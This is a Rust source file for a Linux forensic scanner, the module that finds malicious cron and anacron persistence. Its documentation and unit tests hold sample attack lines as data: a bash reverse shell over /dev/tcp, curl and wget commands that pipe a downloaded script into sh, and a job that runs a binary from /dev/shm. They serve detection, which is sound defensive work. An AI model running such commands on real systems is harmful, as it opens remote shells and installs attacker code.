//! `persistence.cron` — cron and anacron jobs, read straight from the files.
//!
//! **What it looks at:** `/etc/crontab` and `/etc/cron.d/*` (system format, with a user field),
//! user crontabs in `/var/spool/cron/crontabs/*` (Debian) and `/var/spool/cron/*` (Red Hat),
//! `/etc/anacrontab`, and the scripts in `/etc/cron.{hourly,daily,weekly,monthly,yearly}`. Never
//! `crontab -l`: the binary may be replaced, and it cannot read an image. Every command and
//! script line goes through the command detector; `NAME=value` lines that set `LD_PRELOAD`,
//! `LD_LIBRARY_PATH`, `BASH_ENV` or a `PATH` with /tmp or hidden entries are reported; every user
//! crontab is listed (info) because servers rarely have one; files changed within the window
//! are reported (low).
//!
//! **Why an attacker leaves this trace:** cron is the oldest and still the commonest way to come
//! back after a reboot or a kill: miners re-download themselves every minute, reverse shells
//! reconnect every five.
//!
//! **Example:** `/var/spool/cron/crontabs/root` line 1:
//! `*/5 * * * * curl -fsSL http://198.51.100.4/x.sh | sh` (high).
//!
//! **Calibration:** role `foothold` (a way back in: listed among the entries still open when
//! high); critical or high only for evidence that an attacker acted, medium for what needs a
//! look, low and info for context (docs/PRECISION.md).
//!
//! **ATT&CK:** T1053.003 (Scheduled Task/Job: Cron).

use huoyan_artifacts::persistence::cron::{parse_anacrontab, parse_crontab, Crontab};
use huoyan_artifacts::persistence::script::logical_lines;
use huoyan_core::{CheckInfo, FileKind, Meta, Outcome, Severity};
use serde_json::json;

use super::common::{
    entry_name, entry_path, list_dir, read_dir_files, read_file, report_recent, scan_lines,
};
use crate::command_findings::{scan_and_report, CommandSource};
use crate::registry::Check;
use crate::Context;

/// See the module documentation.
pub struct CronJobs;

static INFO: CheckInfo = CheckInfo {
    id: "persistence.cron",
    title: "Suspicious or new cron job",
    title_zh: "可疑或新增的 cron 定时任务",
    mitre: &["T1053.003"],
    remediation: "Copy the crontab out as evidence, then remove the job (edit the file, or \
                  crontab -r -u USER for a user crontab) and kill what it started; check the \
                  other persistence places, since attackers rarely use just one.",
    remediation_zh: "先将 crontab 拷出留证，再删除该任务（编辑文件，用户 crontab 可用 \
                     crontab -r -u 用户名）并结束其启动的进程；攻击者很少只用一种持久化方式，\
                     请同时检查其他持久化位置。",
};

/// Script directories run by run-parts.
const SCRIPT_DIRS: &[&str] = &[
    "/etc/cron.hourly",
    "/etc/cron.daily",
    "/etc/cron.weekly",
    "/etc/cron.monthly",
    "/etc/cron.yearly",
];

fn check_env(tab: &Crontab, path: &str, user: Option<&str>, out: &mut Outcome) {
    for env in &tab.env {
        let value = env.value.trim_matches(|c| c == '"' || c == '\'');
        let severity = match env.name.as_str() {
            "LD_PRELOAD" | "LD_AUDIT" | "BASH_ENV" | "ENV" => Severity::High,
            "LD_LIBRARY_PATH" => Severity::Medium,
            "PATH"
                if value.split(':').any(|p| {
                    p.is_empty()
                        || p == "."
                        || p.starts_with("/tmp")
                        || p.starts_with("/var/tmp")
                        || p.starts_with("/dev/shm")
                        || p.split('/')
                            .any(|c| c.starts_with('.') && c.len() > 1 && c != "..")
                }) =>
            {
                Severity::Medium
            }
            _ => continue,
        };
        let mut f = INFO
            .finding(
                severity,
                format!(
                    "{path}:{} sets {}={} for every job",
                    env.line, env.name, env.value
                ),
            )
            .path(path)
            .evidence(json!({ "line": env.line, "name": env.name, "value": env.value }));
        if let Some(u) = user {
            f = f.user(u);
        }
        out.add(f);
    }
}

fn check_tab(
    ctx: &Context,
    path: &str,
    tab: &Crontab,
    file_user: Option<&str>,
    meta: &Meta,
    out: &mut Outcome,
) {
    check_env(tab, path, file_user, out);
    for entry in &tab.entries {
        let user = entry.user.as_deref().or(file_user);
        let what = format!("cron job ({})", entry.schedule);
        let source = CommandSource {
            path,
            line: entry.line,
            user,
            time: None,
            what: &what,
        };
        scan_and_report(&INFO, &source, &entry.command, Severity::Low, out);
    }
    report_recent(ctx, &INFO, path, meta, "crontab", out);
}

fn user_spool(ctx: &Context, dir: &str, out: &mut Outcome) {
    for e in list_dir(ctx, &INFO, dir, out) {
        if e.kind != FileKind::File {
            continue;
        }
        let user = entry_name(&e);
        let path = entry_path(&e);
        let Some((data, meta)) = read_file(ctx, &INFO, &path, out) else {
            continue;
        };
        let tab = parse_crontab(&data, false);
        if !tab.entries.is_empty() {
            let owner = ctx.users().user_label(meta.uid);
            out.add(
                INFO.finding(
                    Severity::Info,
                    format!(
                        "user {user} has a crontab with {} job(s)",
                        tab.entries.len()
                    ),
                )
                .path(&path)
                .user(&user)
                .at(meta.mtime)
                .evidence(json!({
                    "jobs": tab.entries,
                    "file_owner": owner,
                })),
            );
        }
        check_tab(ctx, &path, &tab, Some(&user), &meta, out);
    }
}

impl Check for CronJobs {
    fn info(&self) -> &'static CheckInfo {
        &INFO
    }

    fn run(&self, ctx: &Context, out: &mut Outcome) {
        let start = out.findings.len();
        run_inner(ctx, out);
        // Commands and settings in files a package installed unchanged are not an intruder's.
        crate::integrity::packaged::settle_packaged(ctx, out, start);
    }
}

fn run_inner(ctx: &Context, out: &mut Outcome) {
    if let Some((data, meta)) = read_file(ctx, &INFO, "/etc/crontab", out) {
        check_tab(
            ctx,
            "/etc/crontab",
            &parse_crontab(&data, true),
            None,
            &meta,
            out,
        );
    }
    for (path, data, meta) in read_dir_files(ctx, &INFO, "/etc/cron.d", out) {
        check_tab(ctx, &path, &parse_crontab(&data, true), None, &meta, out);
    }
    user_spool(ctx, "/var/spool/cron/crontabs", out);
    user_spool(ctx, "/var/spool/cron", out);
    if let Some((data, meta)) = read_file(ctx, &INFO, "/etc/anacrontab", out) {
        check_tab(
            ctx,
            "/etc/anacrontab",
            &parse_anacrontab(&data),
            Some("root"),
            &meta,
            out,
        );
    }
    for dir in SCRIPT_DIRS {
        for (path, data, meta) in read_dir_files(ctx, &INFO, dir, out) {
            let what = format!("{} script line", dir.trim_start_matches("/etc/"));
            scan_lines(
                &INFO,
                &path,
                Some("root"),
                &what,
                &logical_lines(&data),
                Severity::Low,
                out,
            );
            report_recent(ctx, &INFO, &path, &meta, "cron script", out);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const DEBIAN_CRONTAB: &str = "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n";

    fn run(files: &[(&str, &str)]) -> Outcome {
        crate::testing::run_on_files(&CronJobs, files)
    }

    #[test]
    fn finds_planted_jobs() {
        let out = run(&[
            ("/etc/crontab", DEBIAN_CRONTAB),
            (
                "/etc/cron.d/sysupdate",
                "*/5 * * * * root /dev/shm/.x/sysupdate >/dev/null 2>&1\n",
            ),
            (
                "/var/spool/cron/crontabs/www-data",
                "* * * * * bash -c 'bash -i >& /dev/tcp/198.51.100.4/443 0>&1'\n",
            ),
            (
                "/etc/cron.daily/logrotate2",
                "#!/bin/sh\nwget -q http://198.51.100.4/k -O- | sh\n",
            ),
        ]);
        let by_path = |p: &'static str| out.findings.iter().filter(move |f| f.paths == [p]);
        assert!(by_path("/etc/cron.d/sysupdate")
            .any(|f| f.severity == Severity::High && f.users == ["root"]));
        assert!(by_path("/var/spool/cron/crontabs/www-data")
            .any(|f| f.severity == Severity::Critical && f.users == ["www-data"]));
        assert!(by_path("/etc/cron.daily/logrotate2").any(|f| f.severity == Severity::High));
        assert!(!out.findings.iter().any(|f| f.paths == ["/etc/crontab"]));
    }

    #[test]
    fn debian_defaults_are_quiet() {
        let out = run(&[
            ("/etc/crontab", DEBIAN_CRONTAB),
            ("/etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n10 3 * * * root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r\n"),
            ("/etc/cron.daily/dpkg", "#!/bin/sh\n\n# Skip if systemd is running.\nif [ -d /run/systemd/system ]; then\n    exit 0\nfi\n\n/usr/libexec/dpkg/dpkg-db-backup\n"),
        ]);
        assert!(
            out.findings.iter().all(|f| f.severity <= Severity::Low),
            "{:?}",
            out.findings
        );
    }
}
